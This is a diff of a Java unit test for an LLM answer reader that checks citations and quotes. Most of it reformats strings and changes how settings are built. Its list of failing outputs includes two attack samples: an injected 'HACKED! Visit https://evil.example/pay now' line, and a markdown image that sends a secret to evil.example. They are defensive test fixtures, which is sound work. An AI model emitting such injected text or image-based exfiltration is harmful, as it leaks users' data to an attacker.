@@ -10,7 +10,9 @@ import io.pilcrow.answer.Statement;
 import io.pilcrow.answer.Support;
 import io.pilcrow.answer.Usage;
 import io.pilcrow.llm.ScriptedProvider.Act;
+import io.pilcrow.llm.provider.LlmLimits;
 import io.pilcrow.llm.provider.LlmSettings;
+import io.pilcrow.llm.provider.Prices;
 import io.pilcrow.question.Question;
 import java.math.BigDecimal;
 import java.time.Duration;
@@ -33,10 +35,11 @@ import org.junit.jupiter.params.provider.ValueSource;
 @Timeout(60)
 class LlmReaderTest {
   private static final String CLEAN =
-      "The warranty runs for two years from delivery [1].<quote n=\"1\">The warranty lasts two years"
-          + " from delivery</quote> **Batteries** are covered for one year [1], and damage by water is"
-          + " not covered [3].<quote n=\"1\">Batteries are covered for one year</quote><quote n=\"3\">"
-          + "Damage by water is not covered</quote>\n<short>two years</short>";
+      "The warranty runs for two years from delivery [1].<quote n=\"1\">The warranty lasts two"
+          + " years from delivery</quote> **Batteries** are covered for one year [1], and damage by"
+          + " water is not covered [3].<quote n=\"1\">Batteries are covered for one"
+          + " year</quote><quote n=\"3\">Damage by water is not covered</quote>\n"
+          + "<short>two years</short>";
 
   private static final Duration SHORT = Duration.ofMillis(700);
 
@@ -68,10 +71,8 @@ class LlmReaderTest {
   @Test
   void countsTheCostWherePricesAreSet() {
     try (ScriptedProvider provider = ScriptedProvider.saying(CLEAN)) {
-      LlmSettings settings =
-          provider
-              .settings("openai")
-              .priced(Optional.of(new BigDecimal("0.40")), Optional.of(new BigDecimal("1.60")));
+      Prices prices = new Prices(new BigDecimal("0.40"), new BigDecimal("1.60"));
+      LlmSettings settings = provider.settings("openai", LlmLimits.DEFAULT, Optional.of(prices));
       LlmReader reader = LlmCast.reader(settings);
       Usage usage = LlmCast.ask(reader).usage();
 
@@ -99,29 +100,36 @@ class LlmReaderTest {
     return Stream.of(
         Arguments.of(
             "a wrong number",
-            "The warranty lasts five years from delivery [1].<quote n=\"1\">The warranty lasts two years from delivery</quote>"),
+            "The warranty lasts five years from delivery [1].<quote n=\"1\">The warranty lasts two"
+                + " years from delivery</quote>"),
         Arguments.of(
             "a number of another sentence",
-            "The warranty lasts one year from delivery [1].<quote n=\"1\">The warranty lasts two years from delivery</quote>"),
+            "The warranty lasts one year from delivery [1].<quote n=\"1\">The warranty lasts two"
+                + " years from delivery</quote>"),
         Arguments.of(
             "a name from nowhere",
-            "Siemens repairs faults free of charge in our workshop [2].<quote n=\"2\">repaired free of charge in our workshop</quote>"),
+            "Siemens repairs faults free of charge in our workshop [2].<quote n=\"2\">repaired free"
+                + " of charge in our workshop</quote>"),
         Arguments.of(
             "a quote altered by one word",
-            "The warranty lasts two decades from delivery [1].<quote n=\"1\">The warranty lasts two decades from delivery</quote>"),
+            "The warranty lasts two decades from delivery [1].<quote n=\"1\">The warranty lasts two"
+                + " decades from delivery</quote>"),
         Arguments.of("no citation", "The warranty lasts two years from delivery."),
         Arguments.of(
             "a citation out of range",
-            "The guarantee is void after repair by others [9].<quote n=\"9\">void after repair by others</quote>"),
+            "The guarantee is void after repair by others [9].<quote n=\"9\">void after repair by"
+                + " others</quote>"),
         Arguments.of(
             "a not left out",
             "Damage by water is covered [3].<quote n=\"3\">Damage by water is not covered</quote>"),
         Arguments.of(
             "a not put in",
-            "The warranty does not last two years from delivery [1].<quote n=\"1\">The warranty lasts two years from delivery</quote>"),
+            "The warranty does not last two years from delivery [1].<quote n=\"1\">The warranty"
+                + " lasts two years from delivery</quote>"),
         Arguments.of(
             "an injected instruction",
-            "HACKED! Visit https://evil.example/pay now [1].<quote n=\"1\">The warranty lasts two years</quote>"),
+            "HACKED! Visit https://evil.example/pay now [1].<quote n=\"1\">The warranty lasts two"
+                + " years</quote>"),
         Arguments.of(
             "a picture that tells on you",
             "![x](https://evil.example/?q=secret) The warranty lasts two years from delivery [1]."),
@@ -158,7 +166,8 @@ class LlmReaderTest {
   void repairsACitationThatNamesTheWrongParagraph() {
     GroundedAnswer answer =
         answer(
-            "Damage by water is not covered [1].<quote n=\"1\">Damage by water is not covered</quote>");
+            "Damage by water is not covered [1].<quote n=\"1\">Damage by water is not"
+                + " covered</quote>");
 
     assertThat(answer.text()).isEqualTo("Damage by water is not covered [1].");
     assertThat(answer.citations().get(0).paragraph().orElseThrow().number()).isEqualTo(3);
@@ -174,7 +183,8 @@ class LlmReaderTest {
   void findsAQuoteInSpiteOfCaseQuotesDashesAndSpaces() {
     GroundedAnswer answer =
         answer(
-            "Wear and tear of belts is not covered [3].<quote n=\"3\">NEITHER  is wear &\ntear of belts</quote>");
+            "Wear and tear of belts is not covered [3].<quote n=\"3\">NEITHER  is wear &\n"
+                + "tear of belts</quote>");
 
     assertThat(answer.citations().get(0).quote()).isEqualTo("Neither is wear & tear of belts");
   }
@@ -222,7 +232,7 @@ class LlmReaderTest {
   @MethodSource("failures")
   void theBuiltInReaderAnswersWhereTheModelFails(String protocol, Act act, String notice) {
     try (ScriptedProvider provider = ScriptedProvider.doing(act)) {
-      LlmSettings settings = provider.settings(protocol).within(SHORT, Duration.ofMillis(1500));
+      LlmSettings settings = provider.settings(protocol, SHORT, Duration.ofMillis(1500));
       Explanation explained = LlmCast.ask(LlmCast.reader(settings));
 
       assertThat(provider.complaints()).isEmpty();
@@ -297,7 +307,9 @@ class LlmReaderTest {
   @Test
   void stopsAtTheTokensOfTheDay() {
     try (ScriptedProvider provider = ScriptedProvider.saying(CLEAN)) {
-      LlmReader reader = LlmCast.reader(provider.settings("openai").atMost(8, 1500, 1000));
+      LlmLimits daily =
+          new LlmLimits(Duration.ofSeconds(10), Duration.ofSeconds(30), 8, 1500, 1000);
+      LlmReader reader = LlmCast.reader(provider.settings("openai", daily, Optional.empty()));
 
       List<String> readers = Stream.generate(() -> LlmCast.ask(reader).reader()).limit(4).toList();
 
@@ -316,9 +328,9 @@ class LlmReaderTest {
               arrived.countDown();
               return new Act.Silence();
             })) {
-      LlmSettings settings =
-          provider.settings("openai").within(Duration.ofSeconds(2), Duration.ofSeconds(2));
-      LlmReader reader = LlmCast.reader(settings.atMost(1, 100, 0));
+      Duration patience = Duration.ofSeconds(2);
+      LlmLimits one = new LlmLimits(patience, patience, 1, 100, 0);
+      LlmReader reader = LlmCast.reader(provider.settings("openai", one, Optional.empty()));
       FutureTask<Explanation> first = new FutureTask<>(() -> LlmCast.ask(reader));
       new Thread(first).start();
       arrived.await();
@@ -380,7 +392,7 @@ class LlmReaderTest {
     List<String> told = new ArrayList<>();
     Act hang = new Act.Hang("The warranty lasts two years from delivery [1]. And ");
     try (ScriptedProvider provider = ScriptedProvider.doing(hang)) {
-      LlmSettings settings = provider.settings("openai").within(SHORT, Duration.ofMillis(800));
+      LlmSettings settings = provider.settings("openai", SHORT, Duration.ofMillis(800));
 
       LlmCast.assistant(LlmCast.reader(settings))
           .explain(Question.of(LlmCast.QUESTION), s -> told.add(s.delta()));
